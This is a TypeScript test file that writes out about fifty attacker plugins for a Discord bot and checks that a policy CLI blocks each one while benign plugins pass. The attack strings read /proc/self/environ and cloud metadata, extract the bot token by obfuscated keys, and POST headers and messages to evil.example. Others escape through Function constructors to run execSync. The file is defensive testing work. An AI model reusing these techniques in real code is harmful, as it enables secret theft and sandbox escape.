// Issue 10's attacks, each written as a one-file plugin (+ its test) the way an attacker would
// write it — against the old in-process API (discord.js objects, ../../core/plugin.ts) or the
// new plugin API — and judged by the REAL CLI on a real git repo whose base holds a copy of
// the real policies/. The plugin host is the boundary; this shows the policy check blocks
// every one of them as well (defense in depth), and that benign plugins still pass.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { runCli } from "../../policy-engine/command.ts";
import type { Verdict } from "../../policy-engine/types.ts";
import { makeOuroRepo, ROOT, type OuroRepo } from "../helpers/policy-repo.ts";

const TEST = `import { it, expect } from "vitest";\nimport * as m from "./index.ts";\nit("loads", () => { expect(m).toBeDefined(); });\n`;

/** A plugin folder: index.ts holding `code` and a test next to it (so only `code` can be blamed). */
const plugin = (name: string, code: string, extra: Record<string, string> = {}): Record<string, string> => ({
  [`bot/plugins/${name}/index.ts`]: code,
  [`bot/plugins/${name}/index.test.ts`]: TEST,
  ...Object.fromEntries(Object.entries(extra).map(([f, text]) => [`bot/plugins/${name}/${f}`, text])),
});

/** A command handler on the old in-process API: it gets the discord.js interaction (and its client). */
const oldApi = (body: string, head = "") => `${head}import type { ChatInputCommandInteraction } from "discord.js";
import { definePlugin } from "../../core/plugin.ts";

export default definePlugin({
  name: "x",
  description: "x",
  commands: [{ data: { name: "x", description: "x" } as any, async execute(interaction: ChatInputCommandInteraction) {
    ${body}
  } }],
});
`;

/** A command handler on the plugin API. */
const newApi = (body: string, head = "") => `${head}import { definePlugin } from "../../plugin-api/index.ts";

export default definePlugin({
  name: "x",
  description: "x",
  commands: [{ name: "x", description: "x", async run(call) {
    ${body}
  } }],
});
`;

interface Attack {
  name: string;
  files: Record<string, string>;
  /** Every one must match an error finding (on `file`, when given). */
  rules: RegExp[];
  file?: string;
}

const IMPORT_CORE = /^api\/import-outside$/;
const IMPORT_PACKAGE = /^api\/import-package$/;
const IMPORT_BUILTIN = /^api\/import-builtin$/;
const NOT_ALLOWED = /^files\/not-allowed$/;

const ATTACKS: Attack[] = [
  // secrets out through Discord
  {
    name: "reply-files-proc-environ",
    files: plugin("a1", oldApi(`await interaction.reply({ files: ["/proc/self/environ"] });`)),
    rules: [IMPORT_CORE, /^api\/secret-path$/],
  },
  {
    name: "api-reply-files-proc-environ",
    files: plugin("a2", newApi(`await call.reply({ files: ["/proc/self/environ"] as any });`)),
    rules: [/^api\/secret-path$/],
  },
  {
    name: "attachment-builder-path",
    files: plugin("a3", `import { AttachmentBuilder } from "discord.js";\nexport const file = (p: string) => new AttachmentBuilder(p);\n`),
    rules: [IMPORT_PACKAGE],
  },
  {
    name: "reply-files-url",
    files: plugin("a4", oldApi(`await interaction.reply({ files: ["http://169.254.169.254/latest/meta-data/iam/"] });`)),
    rules: [IMPORT_CORE],
  },
  // arbitrary code
  {
    name: "sharding-manager-execArgv",
    files: plugin(
      "a5",
      `import { ShardingManager } from "discord.js";\nexport const m = () => new ShardingManager("bot/main.ts", { execArgv: ["--import=data:text/javascript,console.log(JSON.stringify(process.env))"] }).spawn();\n`,
    ),
    rules: [IMPORT_PACKAGE],
  },
  {
    name: "sharding-manager-extensionless-file",
    files: plugin(
      "a6",
      `import { ShardingManager } from "discord.js";\nexport const m = () => new ShardingManager(new URL("./payload", import.meta.url).pathname).spawn();\n`,
      { payload: `import("node:child_process").then((cp) => cp.execSync("id"));\n` },
    ),
    rules: [IMPORT_PACKAGE, NOT_ALLOWED],
  },
  {
    name: "start-vitest-execArgv",
    files: {
      "bot/plugins/a7/index.ts": `export const x = 1;\n`,
      "bot/plugins/a7/index.test.ts": `import { it } from "vitest";\nimport { startVitest } from "vitest/node";\nit("runs", async () => { await startVitest("test", ["bot/plugins/a7/payload.ts"], { execArgv: ["--import=data:text/javascript,1"] } as any); });\n`,
    },
    rules: [IMPORT_PACKAGE],
    file: "bot/plugins/a7/index.test.ts",
  },
  {
    name: "new-Object-constructor-src",
    files: plugin("a8", `export const run = (src: string) => new Object.constructor(src)();\n`),
    rules: [/^api\/function-constructor$/],
  },
  {
    name: "new-function-constructor-src",
    files: plugin("a9", `const f = () => 0;\nexport const run = (src: string) => new f.constructor(src)();\n`),
    rules: [/^api\/function-constructor$/],
  },
  {
    name: "new-array-map-constructor-src",
    files: plugin("a10", `export const run = (src: string) => new [].map.constructor(src)();\n`),
    rules: [/^api\/function-constructor$/],
  },
  {
    name: "reflect-construct-Object-constructor",
    files: plugin("a11", `export const run = (src: string) => Reflect.construct(Object.constructor, [src])();\n`),
    rules: [/^api\/function-constructor$/],
  },
  {
    name: "cjs-wrapper-arguments-ts",
    files: plugin("a12", `const req = arguments[1];\nexport const id = () => req("child_process").execSync("id").toString();\n`),
    rules: [/^api\/forbidden-global$/],
  },
  {
    name: "cjs-wrapper-arguments-cts",
    files: {
      "bot/plugins/a13/index.cts": `const req = arguments[1];\nmodule.exports = () => req("child_process").execSync("id").toString();\n`,
      "bot/plugins/a13/index.test.ts": TEST,
    },
    rules: [NOT_ALLOWED, /^api\/forbidden-global$/],
    file: "bot/plugins/a13/index.cts",
  },
  // the bot token
  {
    name: "client-computed-join",
    files: plugin("a14", oldApi(`await interaction.reply(String((interaction.client as any)[["to", "ken"].join("")]));`)),
    rules: [IMPORT_CORE, /^api\/client-token$/],
  },
  {
    name: "client-fromCharCode",
    files: plugin(
      "a15",
      oldApi(`await interaction.reply(String((interaction.client as any)[String.fromCharCode(116, 111, 107, 101, 110)]));`),
    ),
    rules: [IMPORT_CORE, /^api\/client-token$/],
  },
  {
    name: "client-ownKeys-loop",
    files: plugin(
      "a16",
      oldApi(`for (const k of Reflect.ownKeys(interaction.client)) await interaction.followUp(String((interaction.client as any)[k]));`),
    ),
    rules: [IMPORT_CORE, /^api\/client-token$/],
  },
  {
    name: "client-key-from-another-file",
    files: plugin(
      "a17",
      oldApi(`await interaction.reply(String((interaction.client as any)[KEY]));`, `import { KEY } from "./keys.ts";\n`),
      { "keys.ts": `export const KEY = ["to", "ken"].join("");\n` },
    ),
    rules: [IMPORT_CORE, /^api\/client-token$/],
  },
  {
    name: "rest-authorization-header",
    files: plugin(
      "a18",
      oldApi(
        `interaction.client.rest.on("response", (req: any) => void fetch("https://evil.example/", { method: "POST", body: JSON.stringify(req.headers) }));`,
      ),
    ),
    rules: [IMPORT_CORE, /^api\/network$/],
  },
  {
    name: "new-client-token",
    files: plugin("a19", `import { Client } from "discord.js";\nexport const t = () => new Client({ intents: [] }).token;\n`),
    rules: [IMPORT_PACKAGE, /^api\/client-token$/],
  },
  {
    name: "bare-JSON-assignment",
    files: plugin("a20", `const real = JSON.stringify;\nJSON = { ...JSON, stringify: (v: unknown) => real(v) } as JSON;\nexport {};\n`),
    rules: [/^api\/global-mutation$/],
  },
  {
    name: "active-handles-app-link",
    files: plugin("a21", `export const sniff = () => (process as any)._getActiveHandles().map((s: any) => s.remoteAddress);\n`),
    rules: [/^api\/forbidden-member$/],
  },
  // the environment and files
  {
    name: "env-via-default-as-process",
    files: plugin("a22", `import { default as p } from "node:process";\nexport const t = p.env.DISCORD_TOKEN;\n`),
    rules: [IMPORT_BUILTIN, /^api\/env$/],
  },
  {
    name: "fs-local-dirname",
    files: plugin(
      "a23",
      `import { readFileSync } from "node:fs";\nimport { join } from "node:path";\nconst __dirname = "/proc/self";\nexport const e = () => readFileSync(join(__dirname, "environ"), "utf8");\n`,
    ),
    rules: [IMPORT_BUILTIN, /^api\/(fs-read|secret-path)$/],
  },
  {
    name: "fs-local-join",
    files: plugin(
      "a24",
      `import { readFileSync } from "node:fs";\nconst join = (..._p: string[]) => ["", "proc", "self", "environ"].join("/");\nexport const e = () => readFileSync(join(import.meta.dirname, "data.json"), "utf8");\n`,
    ),
    rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
  },
  {
    name: "fs-local-URL",
    files: plugin(
      "a25",
      `import { readFileSync } from "node:fs";\nconst URL = function (_a: string, _b: string) { return ["", "proc", "self", "environ"].join("/"); } as any;\nexport const e = () => readFileSync(new URL("./data.json", import.meta.url), "utf8");\n`,
    ),
    rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
  },
  {
    name: "fs-ReadStream",
    files: plugin("a26", `import fs from "node:fs";\nexport const s = (p: string) => new fs.ReadStream(p);\n`),
    rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
  },
  {
    name: "fs-globSync",
    files: plugin("a27", `import fs from "node:fs";\nexport const all = () => fs.globSync("/**/.env*");\n`),
    rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
  },
  {
    name: "getBuiltinModule-fs",
    files: plugin(
      "a28",
      `const fs = process.getBuiltinModule("node:fs");\nexport const e = () => fs.readFileSync("/proc/self/environ", "utf8");\n`,
    ),
    rules: [IMPORT_BUILTIN],
  },
  {
    name: "module-require",
    files: plugin("a29", `export const cp = () => (module as any).require("node:child_process");\n`),
    rules: [/^api\/(forbidden-member|forbidden-module)$/],
  },
  // powers the user lacks
  {
    name: "forged-interaction-rollback",
    files: plugin(
      "a30",
      oldApi(`interaction.client.emit("interactionCreate", Object.assign(Object.create(interaction), { commandName: "rollback" }));`),
    ),
    rules: [IMPORT_CORE],
  },
  {
    name: "wrap-core-listeners",
    files: plugin(
      "a31",
      oldApi(`for (const l of interaction.client.listeners("interactionCreate")) interaction.client.off("interactionCreate", l as any);`),
    ),
    rules: [IMPORT_CORE],
  },
  { name: "grant-roles", files: plugin("a32", oldApi(`await (interaction.member as any).roles.add("1");`)), rules: [IMPORT_CORE] },
  {
    name: "read-every-message",
    files: plugin(
      "a33",
      oldApi(`interaction.client.on("messageCreate", (m) => void fetch("https://evil.example/", { method: "POST", body: m.content }));`),
    ),
    rules: [IMPORT_CORE, /^api\/network$/],
  },
  // availability
  { name: "busy-loop", files: plugin("a34", newApi(`for (;;) {}`)), rules: [/^api\/busy-loop$/] },
  {
    name: "atomics-wait",
    files: plugin("a35", newApi(`Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`)),
    rules: [/^api\/forbidden-member$/],
  },
  {
    name: "redos-responder",
    files: plugin(
      "a36",
      `import { definePlugin } from "../../core/plugin.ts";\nexport default definePlugin({ name: "x", description: "x", responders: [{ name: "x", trigger: /^(\\w+\\s?)*$/, respond: () => "hi" }] } as any);\n`,
    ),
    rules: [IMPORT_CORE, /^api\/redos$/],
  },
  {
    name: "redos-in-own-code",
    files: plugin("a37", newApi(`if (/^(\\w+\\s?)*$/.test(String(call.options.text))) await call.reply("words");`)),
    rules: [/^api\/redos$/],
  },
  // cross-file aliasing: one file hands process / globalThis / a constructor to another
  {
    name: "cross-file-process",
    files: plugin("a38", `import { p } from "./helper.ts";\nexport const t = () => p.env.DISCORD_TOKEN;\n`, {
      "helper.ts": `export const p = process;\n`,
    }),
    rules: [/^api\/exported-alias$/],
    file: "bot/plugins/a38/helper.ts",
  },
  {
    name: "cross-file-globalThis",
    files: plugin("a39", `import { g } from "./helper.ts";\nexport const run = (s: string) => g[["ev", "al"].join("")](s);\n`, {
      "helper.ts": `const g: any = globalThis;\nexport { g };\n`,
    }),
    rules: [/^api\/exported-alias$/],
    file: "bot/plugins/a39/helper.ts",
  },
  {
    name: "cross-file-constructor",
    files: plugin("a40", `import { C } from "./helper.ts";\nexport const run = (src: string) => new C(src)();\n`, {
      "helper.ts": `export const C: any = [].map.constructor;\n`,
    }),
    rules: [/^api\/exported-alias$/],
    file: "bot/plugins/a40/helper.ts",
  },
  // files the analyser would skip, or Node would run differently
  ...["js", "mjs", "cjs", "mts", "cts", "tsx", "node", "wasm"].map((ext, i): Attack => ({
    name: `file-type-${ext}`,
    files: plugin(`b${i}`, `export const x = 1;\n`, { [`payload.${ext}`]: `export const y = 2;\n` }),
    rules: [NOT_ALLOWED],
    file: `bot/plugins/b${i}/payload.${ext}`,
  })),
  {
    name: "file-type-extensionless",
    files: plugin("b9", `export const x = 1;\n`, { run: `#!/usr/bin/env node\nconsole.log(process.env);\n` }),
    rules: [NOT_ALLOWED],
    file: "bot/plugins/b9/run",
  },
];

// Benign plugins on the plugin API, each with a vitest test using the API's test helpers.
const TESTING = `import { describe, expect, it } from "vitest";\nimport { runCommand } from "../../plugin-api/testing.ts";\n`;
const BENIGN: Record<string, Record<string, string>> = {
  dice: {
    "bot/plugins/dice/index.ts": `// /roll: a fair die, from node:crypto.
import { randomInt } from "node:crypto";
import { definePlugin } from "../../plugin-api/index.ts";

export const roll = (sides: number): number => randomInt(1, sides + 1);

export default definePlugin({
  name: "dice",
  description: "Rolls dice",
  commands: [
    {
      name: "roll",
      description: "Roll a die",
      options: [{ name: "sides", description: "How many sides", type: "integer", min: 2, max: 1000 }],
      async run(call) {
        const sides = Number(call.options.sides ?? 6);
        await call.reply(\`🎲 \${call.user.name} rolled \${roll(sides)} (d\${sides})\`);
      },
    },
  ],
});
`,
    "bot/plugins/dice/dice.test.ts": `${TESTING}import dice, { roll } from "./index.ts";

describe("dice", () => {
  it("rolls within range", async () => {
    for (let i = 0; i < 50; i++) expect(roll(6)).toBeGreaterThanOrEqual(1);
    const sent = await runCommand(dice, "roll", { options: { sides: 20 } });
    expect(sent[0].kind).toBe("reply");
    expect(String(sent[0].message)).toMatch(/rolled \\d+ \\(d20\\)/);
  });
});
`,
  },
  greet: {
    "bot/plugins/greet/index.ts": `// /greet: answers in the tone the bot's settings choose.
import { definePlugin, type Settings } from "../../plugin-api/index.ts";

const GREETINGS: Record<Settings["tone"], string> = {
  friendly: "Hey there",
  formal: "Good day",
  playful: "Ahoy",
  concise: "Hi",
};

export default definePlugin({
  name: "greet",
  description: "Greets you in the bot's tone",
  commands: [
    {
      name: "greet",
      description: "Say hello",
      async run(call) {
        const text = \`\${GREETINGS[call.settings.tone]}, \${call.user.name}!\`;
        await call.reply({ content: text.slice(0, call.settings.maxReplyLength), ephemeral: true });
      },
    },
  ],
});
`,
    "bot/plugins/greet/greet.test.ts": `${TESTING}import greet from "./index.ts";

describe("greet", () => {
  it("follows the tone setting", async () => {
    const sent = await runCommand(greet, "greet", { settings: { tone: "formal" } });
    expect(sent).toEqual([{ kind: "reply", message: { content: "Good day, tester!", ephemeral: true } }]);
  });
});
`,
  },
  quote: {
    "bot/plugins/quote/index.ts": `// /quote: a quote of the day from an allowed host, through the plugin API's fetch.
import { definePlugin } from "../../plugin-api/index.ts";

const API = "https://api.example.com/v1";

export default definePlugin({
  name: "quote",
  description: "Quote of the day",
  commands: [
    {
      name: "quote",
      description: "Today's quote",
      async run(call) {
        await call.defer();
        const res = await call.fetch(\`\${API}/quotes/today?lang=en\`, { headers: { accept: "application/json" } });
        if (res.status !== 200) return call.edit("No quote today.");
        const { text, author } = JSON.parse(res.body) as { text: string; author: string };
        await call.edit({ embeds: [{ title: "Quote of the day", description: text, footer: author }] });
      },
    },
  ],
});
`,
    "bot/plugins/quote/quote.test.ts": `${TESTING}import quote from "./index.ts";

describe("quote", () => {
  it("fetches today's quote", async () => {
    const urls: string[] = [];
    const sent = await runCommand(quote, "quote", {
      fetch: (url) => {
        urls.push(url);
        return { status: 200, headers: {}, body: JSON.stringify({ text: "Be kind.", author: "Anon" }) };
      },
    });
    expect(urls).toEqual(["https://api.example.com/v1/quotes/today?lang=en"]);
    expect(sent.at(-1)).toEqual({ kind: "edit", message: { embeds: [{ title: "Quote of the day", description: "Be kind.", footer: "Anon" }] } });
  });
});
`,
  },
  poll: {
    "bot/plugins/poll/index.ts": `// /poll: options checked with zod, votes kept in the plugin's store.
import { z } from "zod";
import { definePlugin } from "../../plugin-api/index.ts";

export const pollInput = z.object({
  question: z.string().min(3).max(200),
  choices: z.string().transform((s) => s.split(",").map((c) => c.trim()).filter(Boolean)).pipe(z.array(z.string().max(50)).min(2).max(5)),
});

export default definePlugin({
  name: "poll",
  description: "Quick polls",
  commands: [
    {
      name: "poll",
      description: "Start a poll",
      options: [
        { name: "question", description: "What to ask", type: "string", required: true },
        { name: "choices", description: "Comma-separated choices", type: "string", required: true },
      ],
      async run(call) {
        const parsed = pollInput.safeParse(call.options);
        if (!parsed.success) return call.reply({ content: parsed.error.issues.map((i) => i.message).join("; "), ephemeral: true });
        const { question, choices } = parsed.data;
        await call.store.set("last", JSON.stringify({ question, choices }));
        await call.reply({ embeds: [{ title: question, fields: choices.map((c, i) => ({ name: \`\${i + 1}\`, value: c, inline: true })) }] });
      },
    },
  ],
});
`,
    "bot/plugins/poll/poll.test.ts": `${TESTING}import poll from "./index.ts";

describe("poll", () => {
  it("validates its options and stores the poll", async () => {
    const store = new Map<string, string>();
    const sent = await runCommand(poll, "poll", { options: { question: "Lunch?", choices: "pizza, salad" }, store });
    expect(sent[0].kind).toBe("reply");
    expect(JSON.parse(store.get("last")!)).toEqual({ question: "Lunch?", choices: ["pizza", "salad"] });
    const bad = await runCommand(poll, "poll", { options: { question: "?", choices: "one" } });
    expect(bad[0].message).toMatchObject({ ephemeral: true });
  });
});
`,
  },
};

let repo: OuroRepo;

function judge(branch: string): { code: number; verdict: Verdict } {
  let out = "";
  const code = runCli(["--repo", repo.dir, "--base", "main", "--head", branch, "--format", "json", "--head-branch", branch], {
    out: (s) => void (out += s),
    err: () => {},
  });
  return { code, verdict: JSON.parse(out) as Verdict };
}

beforeAll(() => {
  repo = makeOuroRepo();
  // the maintainers allow one more host, so a benign plugin can fetch from it
  const policy = readFileSync(join(ROOT, "policies/ouro.yml"), "utf8");
  const withHost = policy.replace(/allowedHosts: \[/, "allowedHosts: [api.example.com, ");
  expect(withHost).not.toBe(policy);
  repo.write({ "policies/ouro.yml": withHost });
  repo.commit("allow api.example.com");
  for (const a of ATTACKS) repo.branch(`ouro/${a.name}`, a.files);
  for (const [name, files] of Object.entries(BENIGN)) repo.branch(`ouro/benign-${name}`, files);
}, 60_000);
afterAll(() => repo?.cleanup());

describe("issue 10's attacks, as plugins, are blocked by the policy check (CLI, real git)", () => {
  for (const a of ATTACKS) {
    it(`${a.name}: ${a.rules.map((r) => r.source).join(" + ")}`, () => {
      const { code, verdict } = judge(`ouro/${a.name}`);
      const errors = verdict.findings.filter((f) => f.severity === "error");
      const summary = errors.map((f) => `${f.rule} ${f.file ?? ""}`).join("; ");
      expect(verdict.decision, `${a.name}: ${summary || "no error findings"}`).toBe("block");
      expect(code).toBe(1);
      for (const rule of a.rules) {
        const hit = errors.some((f) => rule.test(f.rule) && (a.file === undefined || f.file === a.file));
        expect(hit, `${a.name}: expected ${rule} on ${a.file ?? "any file"}, got: ${summary}`).toBe(true);
      }
    });
  }

  it("says what is allowed: file, line, specifier and the allowlist", () => {
    const { verdict } = judge("ouro/attachment-builder-path");
    expect(verdict.findings).toContainEqual(
      expect.objectContaining({
        rule: "api/import-package",
        severity: "error",
        file: "bot/plugins/a3/index.ts",
        line: 1,
        message: expect.stringMatching(/"discord\.js".*allowed: zod/),
      }),
    );
    const vitestNode = judge("ouro/start-vitest-execArgv").verdict.findings.find((f) => f.rule === "api/import-package");
    expect(vitestNode).toMatchObject({
      file: "bot/plugins/a7/index.test.ts",
      line: 2,
      message: expect.stringMatching(/"vitest\/node", a subpath of vitest/),
    });
  });
});

describe("benign plugins on the plugin API still pass review (CLI, real git)", () => {
  for (const name of Object.keys(BENIGN)) {
    it(`${name}: no error or warning, only the low level's approval`, () => {
      const { code, verdict } = judge(`ouro/benign-${name}`);
      expect(verdict.findings.filter((f) => f.severity !== "info")).toEqual([]);
      expect(verdict).toMatchObject({ decision: "needs-approval", risk: "low", requiredApprovals: 1, automerge: true });
      expect(code).toBe(0);
    });
  }
});
